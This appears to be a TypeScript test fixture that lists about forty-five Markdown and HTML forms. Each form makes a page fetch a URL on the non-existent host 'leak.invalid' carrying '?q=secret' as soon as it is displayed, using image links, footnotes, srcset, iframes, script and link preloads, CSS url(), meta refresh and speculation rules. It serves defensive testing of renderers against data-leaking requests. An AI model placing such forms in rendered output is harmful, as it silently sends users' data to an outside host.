/**
 * Text that makes a careless page send a request to another host as soon as it is shown: pictures, preloads, prefetches, icons, embeds,
 * styles. Each requests a path of its own from `leak.invalid`, a host that does not exist.
 */
export const leakHost = 'leak.invalid';

const at = (path: string) => `https://${leakHost}/${path}?q=secret`;

const inMarkdown: readonly string[] = [
  `![a picture](${at('inline')})`,
  `![a picture](<${at('angled')}> "with a title")`,
  `![a picture][r1]\n\n[r1]: ${at('reference')}`,
  `![r2][]\n\n[r2]: ${at('collapsed')}`,
  `![r3]\n\n[r3]: ${at('shortcut')}`,
  `![a picture](//${leakHost}/relative)`,
  `![a picture](HTTPS://${leakHost.toUpperCase()}/upper)`,
  `![a picture](https&#58;//${leakHost}/entity)`,
  `[![a picture in a link](${at('nested')})](${at('around')})`,
  `| cell |\n| --- |\n| ![](${at('cell')}) |`,
  `> - ![](${at('quoted')})`,
  `# ![](${at('heading')})`,
  `text[^leak]\n\n[^leak]: ![](${at('footnote')})`,
  `\`\`\`html\n<img src="${at('fence')}">\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; a["<img src='${at('diagram')}'>"]\n\`\`\``,
  `$$\\includegraphics{${at('maths')}}$$`,
];

const inHtml: readonly string[] = [
  `<img src="${at('img')}">`,
  `<img srcset="${at('srcset')} 1x, ${at('srcset2')} 2x">`,
  `<picture><source srcset="${at('picture')}"><img src="x"></picture>`,
  `<image src="${at('image')}">`,
  `<input type="image" src="${at('input')}">`,
  `<video src="${at('video')}" poster="${at('poster')}" preload="auto"></video>`,
  `<audio src="${at('audio')}" preload="auto"></audio>`,
  `<iframe src="${at('frame')}"></iframe>`,
  `<object data="${at('object')}"></object>`,
  `<embed src="${at('embed')}">`,
  `<svg><image href="${at('svg')}"/></svg>`,
  `<svg><use href="${at('use')}#x"/></svg>`,
  `<script src="${at('script')}"></script>`,
  `<link rel="stylesheet" href="${at('sheet')}">`,
  `<link rel="preload" as="image" href="${at('preload')}">`,
  `<link rel="prefetch" href="${at('prefetch')}">`,
  `<link rel="modulepreload" href="${at('module')}">`,
  `<link rel="icon" href="${at('icon')}">`,
  `<link rel="dns-prefetch" href="//${leakHost}">`,
  `<link rel="preconnect" href="https://${leakHost}">`,
  `<link rel="manifest" href="${at('manifest')}">`,
  `<style>@import "${at('import')}"; body { background: url("${at('background')}") }</style>`,
  `<style>@font-face { font-family: F; src: url("${at('font')}") } p { font-family: F }</style>`,
  `<p style="background-image: url('${at('style')}')">styled</p>`,
  `<p style="border-image: url('${at('border')}') 1; list-style: url('${at('list')}')">styled</p>`,
  `<table background="${at('table')}"><tr><td>cell</td></tr></table>`,
  `<body background="${at('body')}">`,
  `<meta http-equiv="refresh" content="0; url=${at('refresh')}">`,
  `<form action="${at('form')}"><button autofocus>x</button></form>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${at('speculation')}"]}]}</script>`,
];

export const leakingForms: readonly string[] = [...inMarkdown, ...inHtml];

/** HTML that sends requests as soon as an unguarded page contains it. It is the control that proves that the test would notice requests. */
export const unguardedHtml: string = inHtml.filter((form) => !form.includes('refresh')).join('\n');

/** A text that contains all of them, each as a block of its own. */
export const leakingText: string = leakingForms.join('\n\n');
